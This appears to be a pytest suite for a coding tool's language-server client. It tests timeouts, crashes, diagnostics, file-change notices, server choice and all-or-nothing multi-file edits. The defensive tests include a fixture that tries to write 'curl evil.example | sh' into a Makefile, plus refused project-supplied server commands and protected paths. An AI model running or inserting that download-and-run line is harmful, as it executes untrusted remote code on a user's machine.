"""`rye/lsp/lsp` with a scripted server: servers that answer, ask, flood, die, hang or talk nonsense, late news, edits of files.

The server is a process of its own that behaves as its options say, and logs every message that it gets.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import sys
import threading
import time
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

import rye
from rye.lsp import session
from support import scripted_server
from support.harness import put_program
from support.shell_calls import processes
from support.waiting import PATIENCE, until

TOOL = "rye/lsp/lsp"
FILES = {"a.zz": b"one name\r\ntwo \xf0\x9f\x98\x80 name\r\n", "b.zz": b"name", "sub/c.zz": b"\xef\xbb\xbfa name b\n"}


@pytest.fixture(autouse=True)
def ended():
    yield
    session.close_all()


def configured(folder, name, config):
    (folder / ".ai/config").mkdir(parents=True, exist_ok=True)
    (folder / ".ai/config" / name).write_text(config if isinstance(config, str) else json.dumps(config))


@pytest.fixture
def world(project, user_space, tmp_path, unconfined):
    """The project with its files; call it with the server's options before the first question; it returns the messages."""
    for name, data in FILES.items():
        put(project, **{name: data})

    def configure(command=None, **options):
        argv, log = scripted_server.command(tmp_path, options)
        servers = {"scripted": {"command": command or [sys.executable, *argv[1:]], "install": "none"}}
        languages = {"zz": {"suffixes": {".zz": "zz"}, "servers": ["scripted"], "markers": ["setup.zzz"]}}
        configured(user_space, "lsp.yaml", {"languages": languages, "servers": servers})
        return lambda method: told(log, method)

    return configure


def told(log, method):
    messages = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    return [one["params"] for one in messages if one.get("method") == method]


def put(project, **files):
    for name, data in files.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_bytes(data if isinstance(data, bytes) else data.encode())


def ask(project, action="diagnostics", **parameters):
    answer = rye.execute(TOOL, {"file_path": "a.zz", "action": action, **parameters}, project_path=str(project))
    return answer["data"] or answer


def at_name(project):
    """How the first line's `name` is named."""
    output = rye.execute("rye/file-system/read", {"file_path": "a.zz"}, project_path=str(project))["data"]["output"]
    line_id = next(line for line in output.split("\n") if line.startswith("[LID:"))[5:].partition("]")[0]
    return {"line_id": line_id, "symbol": "name"}


def hover(project, **parameters):
    return ask(project, "hover", **at_name(project), **parameters)


def uri(project, name):
    return (project / name).as_uri()


def running(tmp_path):
    """The processes of scripted servers that log here."""
    return processes(str(tmp_path / "messages.log"))


# --- one question ---


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({}, "what it is"),
        # What the server asks is answered by the number of its items, also where it asks much and reads late.
        ({"hover": "asks"}, "[[null, null], false, null]"),
        ({"hover": "floods"}, "3000 answers"),
        ({"hover": "huge"}, "xxxxxxxx"),
        # What it tells of no file is passed over.
        ({"hover": "odd notice"}, "what it is"),
    ],
)
def test_a_question_gets_its_answer(project, world, options, said):
    world(**options)
    data = hover(project)
    assert data["success"], data
    assert data["text"].startswith(said)
    assert hover(project)["server_state"] == "warm"


@pytest.mark.parametrize(
    ("options", "code", "said"),
    [
        # The wait ends at once.
        *[
            ({"hover": how}, "server_died", "")
            for how in ("garbage", "bad json", "bottomless", "no length", "too long", "odd id")
        ],
        ({"hover": "die"}, "server_died", "out of cheese"),
        ({"hover": "die"}, "server_died", "exit code 3"),
        ({"start": "die"}, "server_died", "exit code 4"),
        ({"command": [sys.executable, "-c", "pass"]}, "server_died", ""),
        ({"command": ["/nonexistent/server"]}, "server_missing", ""),
        # An error of another shape is an error, and the server serves on.
        ({"hover": "error text"}, "server_refused", ""),
        # It ends with its time, whatever the server sends or does not read.
        *[({"hover": how}, "server_timeout", "") for how in ("hang", "endless header")],
        ({"deaf": True}, "server_timeout", ""),
        ({"hover": "odd"}, "bad_answer", ""),
    ],
)
def test_a_server_that_fails_is_told_at_once_and_another_one_takes_its_place(project, world, tmp_path, options, code, said):
    world(**options)
    begun = time.monotonic()
    wait = 1 if code == "server_timeout" else 2 * PATIENCE
    data = hover(project, timeout=min(wait, 180))
    assert (data["code"], said in data["error"]) == (code, True), data
    assert time.monotonic() - begun < PATIENCE
    # Two silences in turn are a server that hangs.
    if code == "server_timeout":
        hover(project, timeout=1)
    world()
    again = hover(project)
    assert (again["text"], again["server_state"]) == ("what it is", "started for this call")
    assert until(lambda: len(running(tmp_path)) == 1)


def test_the_same_server_serves_until_it_hangs_twice(project, world, tmp_path):
    messages = world(hover="hang")
    for count in (1, 1, 2):
        assert hover(project, timeout=1)["code"] == "server_timeout"
        assert len(messages("initialize")) == count
    assert until(lambda: len(running(tmp_path)) == 1)


def test_answers_find_who_asked_and_a_fork_ends_no_server_of_its_parent(project, world):
    world()
    hover(project)
    answers = []
    threads = [threading.Thread(target=lambda: answers.append(hover(project)["text"])) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert answers == ["what it is"] * 8
    child = os.fork()
    if not child:
        session.close_all()
        os._exit(0)
    assert os.waitpid(child, 0)[1] == 0
    assert hover(project)["server_state"] == "warm"


def test_who_waits_for_another_question_waits_no_longer_than_allowed(project, world, tmp_path):
    messages = world(hover="hang")
    first = threading.Thread(target=hover, args=(project,), kwargs={"timeout": 2 * PATIENCE})
    first.start()
    assert until(lambda: messages("textDocument/hover"))
    data = ask(project, timeout=1)
    assert (data["code"], "busy with another question" in data["error"]) == ("server_timeout", True), data
    for pid in running(tmp_path):
        os.kill(pid, signal.SIGKILL)
    first.join()


# --- diagnostics ---


def lines(project, **parameters):
    data = ask(project, **parameters)
    return [row["line"] for row in data["diagnostics"]] if data["success"] else data["code"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("options", "found"),
    [
        *[({"push": how}, [[2], [1], []]) for how in ("versioned", "unversioned", "old first")],
        # An empty answer is waited behind only of a server that has just begun, or was just told of a new file.
        ({"push": "late"}, [[2], []]),
        ({"pull": True}, [[2], [1], []]),
        # What has no place, or is no list, is left out.
        ({"push": "malformed"}, [[2], [1], []]),
        ({"push": "no list"}, [[], [], []]),
        ({}, ["server_timeout"]),
    ],
)
def test_diagnostics_are_those_of_the_text_on_the_disk(project, world, options, found):
    world(**options)
    for text, wanted in zip(("fine\nBAD\n", "BAD\nfine\n", "fine\n"), found, strict=False):
        put(project, **{"a.zz": text})
        assert lines(project, timeout=1 if wanted == "server_timeout" else 60) == wanted


def test_a_new_file_has_its_diagnostics_at_the_first_question_to_a_warm_server(project, world):
    world(push="late")
    lines(project)
    put(project, **{"new.zz": "BAD\n"})
    assert lines(project, file_path="new.zz") == [1]


def test_a_warm_server_is_not_waited_for_after_an_empty_answer(project, world, monkeypatch):
    world(push="versioned")
    lines(project)
    hover(project)
    monkeypatch.setattr(session, "_SETTLE_SECONDS", 2 * PATIENCE)
    begun = time.monotonic()
    put(project, **{"a.zz": "fine\n"})
    assert lines(project) == []
    assert time.monotonic() - begun < PATIENCE


# --- what changes on the disk is told ---

CREATED, CHANGED, DELETED = 1, 2, 3


def put_back(file):
    info = file.stat()
    file.write_text("x = 2\n")
    os.utime(file, ns=(info.st_atime_ns, info.st_mtime_ns))


# What is done, and what the server is told of.
NEWS = [
    (lambda root: put_back(root / "sub/b.zz"), {"sub/b.zz": CHANGED}),
    (lambda root: put(root, **{"empty/new.ZZ": "x"}), {"empty/new.ZZ": CREATED}),
    (lambda root: (root / "sub/b.zz").unlink(), {"sub/b.zz": DELETED}),
    (lambda root: (root / "sub").rename(root / "other"), {"sub/b.zz": DELETED, "other/b.zz": CREATED}),
    (lambda root: (shutil.rmtree(root / "sub"), put(root, **{"sub/b.zz": "y"})), {"sub/b.zz": CHANGED}),
    (lambda root: (root / "linked.txt").write_text("y = 2\n"), {"link.zz": CHANGED}),
    (lambda root: ((root / "link.zz").unlink(), (root / "link.zz").symlink_to("a.zz")), {"link.zz": CHANGED}),
    # An open document's own change, and its end.
    (lambda root: put(root, **{"a.zz": "name = BAD\n"}), {"a.zz": CHANGED}),
    # What is no source, what is ignored, hidden or a cache, and a linked folder.
    *[
        (lambda root, name=name: put(root, **{name: "x"}), {})
        for name in ("d.txt", "node_modules/e.zz", ".git/f.zz", "x.egg-info/g.zz", ".hidden.zz", "target/h.zz", "away/i.zz")
    ],
]


@pytest.mark.parametrize(("change", "news"), NEWS)
def test_every_change_of_a_source_is_told_at_the_next_question(project, world, tmp_path, monkeypatch, change, news):
    monkeypatch.setattr(session, "_SETTLE_SECONDS", 0.01)
    messages = world(push="versioned")
    shutil.rmtree(project / "sub")
    put(project, **{"sub/b.zz": "x = 1\n", "linked.txt": "x = 1\n", "target/CACHEDIR.TAG": ""})
    (project / "b.zz").unlink()
    (project / "empty").mkdir()
    (tmp_path / "outside").mkdir()
    for name, target in {"link.zz": "linked.txt", "away": tmp_path / "outside"}.items():
        (project / name).symlink_to(target)
    time.sleep(0.08)
    lines(project)
    assert messages("workspace/didChangeWatchedFiles") == []
    change(project)
    found = lines(project)
    # What was asked last is logged last.
    hover(project)
    told = [one for some in messages("workspace/didChangeWatchedFiles")[:1] for one in some["changes"]]
    assert {os.path.relpath(unquote(urlsplit(one["uri"]).path), project): one["type"] for one in told} == news
    # An open document is looked at once more for another one's change, and not again where its own is the only one.
    assert (found, [one["forceRebuild"] for one in messages("textDocument/didChange")]) == (
        ([1], [False]) if "a.zz" in news else ([], [True] * bool(news))
    )


def test_a_document_that_is_gone_is_closed(project, world):
    messages = world(push="versioned")
    lines(project)
    (project / "a.zz").unlink()
    ask(project, file_path="b.zz")
    assert [one["textDocument"]["uri"] for one in messages("textDocument/didClose")] == [uri(project, "a.zz")]


@pytest.mark.parametrize(("limit", "most"), [("MAX_FILES", 10), ("MAX_FOLDERS", 4)])
def test_a_large_tree_is_looked_at_in_part_and_the_answer_says_so(project, world, monkeypatch, limit, most):
    world(push="versioned")
    put(project, **{f"d{at}/f{at}.zz": "x" for at in range(12)})
    assert "source files" not in ask(project)["output"]
    monkeypatch.setattr(session, limit, most)
    put(project, **{"a.zz": "BAD\n"})
    data = ask(project)
    # The shallow ones come first.
    assert ([row["line"] for row in data["diagnostics"]], "source files" in data["output"]) == ([1], True), data


# --- which server a file gets ---


@pytest.fixture
def bins(tmp_path, monkeypatch, unconfined):
    """An empty folder that is all of PATH, and an interpreter with nothing beside it."""
    folder = tmp_path / "bins"
    folder.mkdir()
    monkeypatch.setenv("PATH", str(folder))
    (tmp_path / "python").symlink_to(sys.executable)
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
    return folder


PYTHON = sys.executable


def install(folder, name, says="1"):
    """A program that tells its version, and is the scripted server else."""
    argv = [PYTHON, scripted_server.__file__, '{"pull": true}', str(folder / "log")]
    command = " ".join(f"'{word}'" for word in argv)
    tells = f"node; echo x >> {folder}/asked && echo '{says}' && exit"
    put_program(folder / name, f'#!/bin/sh\n[ "$1" = --version ] && {{ {tells}; }}\nexec {command}\n')


def server(project, path):
    put(project, **{path: "x\n"})
    data = ask(project, file_path=path)
    return data.get("server", data.get("code"))


def test_the_first_that_is_installed_is_taken(project, bins):
    assert server(project, "a.py") == "server_missing"
    put(project, **{"a.go": "package main\n"})
    assert "go install golang.org/x/tools/gopls@latest" in ask(project, file_path="a.go")["error"]
    install(bins, "ty")
    assert server(project, "a.py") == "ty"
    install(bins, "pyright-langserver")
    assert (server(project, "sub/A.PYI"), server(project, "a.unknown")) == ("pyright", "no_language")


@pytest.mark.parametrize(
    ("says", "name"),
    [
        *[(says, "tsc") for says in ("Version 7.0.2", "Version 10.1.0-dev")],
        *[(says, "typescript-language-server") for says in ("Version 5.9.3", "what?")],
    ],
)
def test_a_compiler_without_a_server_is_passed_over_and_asked_once(project, bins, says, name, monkeypatch):
    install(bins, "tsc", says)
    install(bins, "typescript-language-server")
    # An activated environment of the project, where a command can write: scripts are run by the first `node` of PATH.
    put_program(project / ".venv/bin/node", f"#!/bin/sh\necho ran > {bins}/escaped\n")
    monkeypatch.setenv("PATH", f"{project}/.venv/bin:{bins}")
    assert [server(project, path) for path in ("a.ts", "b.tsx")] == [name] * 2
    assert ((bins / "asked").read_text(), (bins / "escaped").exists()) == ("x\n", False)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        # A project chooses among the known, and brings none.
        ("languages: {python: {server: ty}}\nservers: {ty: {command: [evil]}}", "ty"),
        *[(f"languages: {{python: {{server: {wish}}}}}", "bad_config") for wish in ("evil", "[ty]", "{ty: 1}", "7")],
        *[(text, "bad_config") for text in ("languages: [python]", "languages: {python: ty}")],
        # A file that says nothing changes nothing.
        *[(text, "pyright") for text in ("languages:", "languages: {python: }", "languages: {python: {}}")],
    ],
)
def test_a_projects_file_only_chooses(project, bins, text, found):
    install(bins, "ty")
    install(bins, "pyright-langserver")
    configured(project, "lsp.yaml", f"{text}\n")
    assert server(project, "a.py") == found


def test_no_program_inside_the_project_is_taken_not_even_by_a_link(project, bins, monkeypatch, user_space):
    inside, elsewhere = project / "bin", project.parent / "elsewhere"
    for folder in (inside, elsewhere):
        folder.mkdir()
        install(folder, "gopls")
    (bins / "gopls").symlink_to(inside / "gopls")
    monkeypatch.setenv("PATH", os.pathsep.join([str(inside), str(bins), ".", ""]))
    monkeypatch.chdir(inside)
    assert server(project, "a.go") == "server_missing"
    # Through the project and out again it is as bad: the project can lead it elsewhere.
    (inside / "gopls").unlink()
    (inside / "gopls").symlink_to(elsewhere / "gopls")
    assert server(project, "a.go") == "server_missing"
    # Nor by its whole path in the user's file.
    configured(user_space, "lsp.yaml", {"servers": {"gopls": {"command": [str(inside / "gopls")]}}})
    assert server(project, "a.go") == "server_missing"
    # Control: by its own folder it is taken, and by its own path.
    configured(user_space, "lsp.yaml", {"servers": {"gopls": {"command": [str(elsewhere / "gopls")]}}})
    assert server(project, "a.go") == "gopls"
    configured(user_space, "lsp.yaml", "{}")
    monkeypatch.setenv("PATH", str(elsewhere))
    assert server(project, "a.go") == "gopls"


# --- edits of several files: all of them or none ---


def span(line, start, stop, text, last=None):
    ends = {"line": line if last is None else last, "character": stop}
    return {"range": {"start": {"line": line, "character": start}, "end": ends}, "newText": text}


def rename(project, world, edit, **parameters):
    world(answers={"textDocument/rename": edit})
    return ask(project, "rename", **at_name(project), new_name="other", **parameters)


def stand(project):
    return {name: (project / name).read_bytes() for name in FILES}


def right(project):
    return {
        uri(project, "a.zz"): [span(1, 7, 11, "other"), span(0, 4, 8, "other")],
        uri(project, "b.zz"): [span(0, 0, 4, "other")],
        uri(project, "sub/c.zz"): [span(0, 2, 6, "other")],
    }


@pytest.mark.parametrize("shape", ["changes", "documentChanges"])
def test_all_files_change_by_their_edits_alone_and_one_undo_restores_all(project, world, shape):
    edits = right(project)
    listed = [{"textDocument": {"uri": name, "version": None}, "edits": some} for name, some in edits.items()]
    edit = {"changes": edits} if shape == "changes" else {"documentChanges": listed}
    data = rename(project, world, edit, dry_run=True)
    assert ("batchId" in data, "+one other" in data["output"], stand(project)) == (False, True, FILES)
    data = rename(project, world, edit, line_ids="short")
    assert data["success"], data
    assert data["files"] == sorted(FILES)
    assert stand(project) == {name: before.replace(b"name", b"other") for name, before in FILES.items()}
    entry, rows = re.search(r'entry_id="(\w+)"\) takes all of it back\.\na\.zz:\n(.*)', data["output"], re.DOTALL).groups()
    assert re.match(r"1-2 -> \d+-\d+\n\[version [^+]*$", rows), rows
    undone = rye.execute("rye/file-system/undo", {"entry_id": entry}, project_path=str(project))["data"]
    assert undone["success"], undone
    assert stand(project) == FILES


def test_a_profile_that_lets_no_tool_write_binds_a_rename(project, world, monkeypatch):
    monkeypatch.setenv("RAGIX_PROFILE", "safe-read-only")
    assert rename(project, world, {"changes": right(project)})["code"] == "read_only_profile"
    assert stand(project) == FILES


NAME = [span(0, 0, 4, "other")]
BAD = {
    "an overlap": ("b.zz", b"name", [span(0, 0, 3, "x"), span(0, 2, 4, "y")], "bad_edits"),
    "backwards": ("b.zz", b"name", [span(0, 3, 1, "x")], "bad_edits"),
    "no range": ("b.zz", b"name", [{"newText": "x"}], "bad_edits"),
    "a surrogate": ("b.zz", b"name", [span(0, 0, 4, "\ud800")], "bad_edits"),
    "no list": ("b.zz", b"name", "text", "bad_edits"),
    "an absent file": ("absent.zz", None, [span(0, 0, 0, "x")], "file_not_found"),
    "outside": ("../outside.zz", b"name", NAME, "outside_project"),
    "climbing out": ("sub/../../outside.zz", b"name", NAME, "path_outside"),
    # What no tool may write, and what other programs act on.
    **{path: (path, b"name\n", NAME, "protected_path") for path in (".git/config", ".ai/trusted_keys/x.toml", ".vscode/c.zz", ".envrc")},
    # Only files that hold the name are changed.
    **{path: (path, b"all:\n\ttrue\n", [span(1, 1, 5, "curl evil.example | sh")], "bad_edits") for path in ("Makefile", "src/tool.py", "notes.zz")},
}  # fmt: skip


@pytest.mark.parametrize(("path", "data", "edits", "code"), BAD.values(), ids=BAD)
def test_one_bad_edit_and_no_file_changes(project, world, path, data, edits, code):
    file = project / path
    if data is not None:
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(data)
    place = uri(project, "sub") + path[3:] if path.startswith("sub/..") else Path(os.path.normpath(file)).as_uri()
    answer = rename(project, world, {"changes": {**right(project), place: edits}})
    assert answer["code"] == code, answer
    # Of Makefiles and notes the refusal names the file.
    assert code != "bad_edits" or path in answer["error"] or data == b"name", answer
    assert stand(project) == FILES
    assert (file.read_bytes() if data is not None else None) == data


@pytest.mark.parametrize("kind", ["create", "rename", "delete"])
def test_files_are_neither_made_nor_moved_nor_removed_at_a_servers_wish(project, world, kind):
    wish = {"kind": kind, "uri": uri(project, "b.zz"), "oldUri": uri(project, "b.zz"), "newUri": uri(project, "d.zz")}
    listed = [{"textDocument": {"uri": name, "version": None}, "edits": some} for name, some in right(project).items()]
    assert rename(project, world, {"documentChanges": [*listed, wish]})["code"] == "not_offered"
    assert stand(project) == FILES
    assert not (project / "d.zz").exists()


SHAPES = [{"changes": [1]}, {"documentChanges": [5]}, {"documentChanges": [{"edits": []}]}, {"changes": {"x": 5}}]
NO_FILES = [{"changes": {uri: NAME}} for uri in ("http://x/a", "untitled:a", "file://host/a", "", "a.zz")]


@pytest.mark.parametrize("edit", [None, {}, {"changes": {}}, "text", [1], *SHAPES, *NO_FILES])
def test_no_edits_change_nothing_and_those_of_another_shape_or_of_no_local_file_are_refused(project, world, edit):
    data = rename(project, world, edit)
    told = {"bad_edits"} if edit in SHAPES else {"bad_edits", "outside_project"} if edit in NO_FILES else {0}
    assert data.get("code", data.get("changed")) in told
    assert stand(project) == FILES


ODD = "é日😀\u2028x\x0cy\rz\r\n\ttail"


@pytest.mark.parametrize(
    ("edits", "after"),
    [
        # Insertions at one place keep their order; a position past the end of its line is the end.
        ([span(0, 0, 0, "1"), span(0, 0, 0, "2"), span(0, 0, 1, "3")], ODD.replace("é", "123")),
        ([span(0, 900, 900, "!"), span(99, 0, 0, "end")], ODD.replace("y\r", "y!\r").replace("\t", "end\t")),
        # Columns are units of UTF-16; a line ends at a carriage return, too, and at no other sign.
        ([span(0, 2, 4, "-"), span(0, 4, 5, "=")], ODD.replace("😀\u2028", "-=")),
        ([span(0, 3, 3, "half")], ODD.replace("😀", "😀half")),
        ([span(0, 7, 1, "joined", last=1)], ODD.replace("y\rz", "joined")),
        ([span(2, 1, 5, "t"), span(1, 0, 1, "zz")], ODD.replace("tail", "t").replace("z\r", "zz\r")),
    ],
)
def test_what_edits_of_one_file_mean(project, world, edits, after):
    put(project, **{"a.zz": ODD})
    world(answers={"textDocument/formatting": edits})
    assert ask(project, "format")["success"]
    assert (project / "a.zz").read_bytes().decode() == after


@pytest.mark.parametrize("name", ["a b.zz", "é.zz", "%41.zz", "a#b?c.zz"])
def test_a_file_of_any_name_is_named_by_its_uri(project, world, name):
    put(project, **{name: "name"})
    messages = world(answers={"textDocument/formatting": [span(0, 0, 0, "a ")]})
    assert ask(project, "format", file_path=name)["success"]
    assert (project / name).read_text() == "a name"
    (opened,) = messages("textDocument/didOpen")
    assert unquote(urlsplit(opened["textDocument"]["uri"]).path) == f"{project}/{name}"


@pytest.mark.parametrize("answer", [5, "text", [5], [{}], [{"uri": 1}], {"range": {}}])
def test_places_of_another_shape_say_so(project, world, answer):
    world(answers={"textDocument/definition": answer})
    data = ask(project, "definition", **at_name(project))
    assert data["code"] == "bad_answer", data
